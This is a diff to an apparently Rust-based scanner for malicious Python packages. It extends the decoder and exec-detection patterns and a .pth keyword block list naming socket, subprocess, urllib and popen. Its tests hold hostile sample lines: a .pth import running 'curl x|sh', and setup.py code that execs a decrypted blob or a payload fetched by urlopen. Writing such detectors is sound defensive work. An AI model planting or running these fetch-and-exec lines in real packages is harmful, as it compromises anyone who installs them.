@@ -10,7 +10,7 @@ use crate::text::{clip, regexes, Lines};
 use crate::{ids, Signal};
 
 regexes! {
-    RE_PY_DECODER = r#"b64decode|b32decode|b16decode|a85decode|b85decode|decodebytes|decodestring|zlib\.decompress|bz2\.decompress|lzma\.decompress|gzip\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|unhexlify|\.decode\(\s*['"](?:base64|hex|rot13|rot_13|zlib)|\[\s*::\s*-1\s*\]|__import__\(\s*['"](?:base64|zlib|marshal|codecs|bz2|lzma)"#;
+    RE_PY_DECODER = r#"b64decode|b32decode|b16decode|a85decode|b85decode|decodebytes|decodestring|zlib\.decompress|bz2\.decompress|lzma\.decompress|gzip\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|unhexlify|\.decode\(\s*['"](?:base64|hex|rot13|rot_13|zlib)|\[\s*::\s*-1\s*\]|__import__\(\s*['"](?:base64|zlib|marshal|codecs|bz2|lzma)|\bdecrypt\s*\(|\bFernet\s*\(|\burlopen\s*\(|\brequests\.get\s*\("#;
     RE_PY_SINK = r"(?:^|[^.\w])(exec|eval|compile)\s*\(";
     RE_PY_ASSIGN = r"^\s*([A-Za-z_][A-Za-z0-9_]*)\s*=[^=]";
     RE_CMDCLASS = r"cmdclass\s*=\s*(\{|dict\()";
@@ -199,7 +199,8 @@ pub fn setup_py(rel: &str, src: &str, out: &mut Vec<Signal>) {
         }
         let module_level = body_of.is_none();
         for (cat, needle) in SETUP_TOKENS {
-            if line.contains(needle) {
+            // A needle inside a string literal (`libraries=["socket"]`) is not code.
+            if line.match_indices(needle).any(|(i, _)| !in_string(line, i)) {
                 let e = seen.entry(cat).or_insert((
                     lines.line_of(start),
                     module_level,
@@ -231,20 +232,45 @@ pub fn setup_py(rel: &str, src: &str, out: &mut Vec<Signal>) {
     }
 }
 
+/// Whether byte `at` of `line` is inside a '…' or "…" literal (escapes respected).
+fn in_string(line: &str, at: usize) -> bool {
+    let mut quote: Option<u8> = None;
+    let mut escaped = false;
+    for &b in &line.as_bytes()[..at.min(line.len())] {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match (quote, b) {
+            (_, b'\\') => escaped = true,
+            (None, b'\'' | b'"') => quote = Some(b),
+            (Some(q), _) if q == b => quote = None,
+            _ => {}
+        }
+    }
+    quote.is_some()
+}
+
 /// `.pth` files: lines starting with `import` are executed at every Python start.
 pub fn pth(rel: &str, src: &str, out: &mut Vec<Signal>) {
     for (i, line) in src.lines().enumerate() {
         if line.starts_with("import ") || line.starts_with("import\t") {
             let lower = line.to_ascii_lowercase();
+            // `__import__('_distutils_hack').add_shim()` (setuptools, in every venv) is
+            // an import; running code, processes or the network is not.
             let bad = [
                 "exec",
                 "eval",
                 "base64",
+                "b64decode",
+                "marshal",
+                "zlib",
                 "subprocess",
                 "urllib",
+                "requests",
                 "socket",
-                "os.system",
-                "__import__",
+                ".system(",
+                "popen",
                 "compile",
             ]
             .iter()
@@ -450,5 +476,46 @@ mod tests {
         let mut out = Vec::new();
         analyze("ok.py", "v = getattr(__builtins__, 'print')\n", &mut out);
         assert!(out.is_empty(), "{out:?}");
+    }
+
+    #[test]
+    fn needles_in_strings_and_setuptools_pth_are_benign() {
+        let mut out = Vec::new();
+        setup_py(
+            "setup.py",
+            "ext = Extension('x', libraries=[\"kstat\", \"nsl\", \"socket\"])\n",
+            &mut out,
+        );
+        assert!(out.is_empty(), "{out:?}");
+        let mut out = Vec::new();
+        pth(
+            "distutils-precedence.pth",
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+            &mut out,
+        );
+        assert_eq!(out.len(), 1);
+        assert_eq!(out[0].value, Some(0.0));
+        let mut out = Vec::new();
+        pth(
+            "x.pth",
+            "import os; __import__('os').system('curl x|sh')\n",
+            &mut out,
+        );
+        assert_eq!(out[0].value, Some(1.0));
+    }
+
+    #[test]
+    fn decrypt_or_download_then_exec() {
+        for src in [
+            "exec(Fernet(b'k3y=').decrypt(b'gAAAAABm...'))\n",
+            "from urllib.request import urlopen;exec(urlopen('https://x.example/p').read())\n",
+        ] {
+            let mut out = Vec::new();
+            analyze("setup.py", src, &mut out);
+            assert!(
+                out.iter().any(|s| s.signal == ids::DECODE_EVAL),
+                "{src}: {out:?}"
+            );
+        }
     }
 }
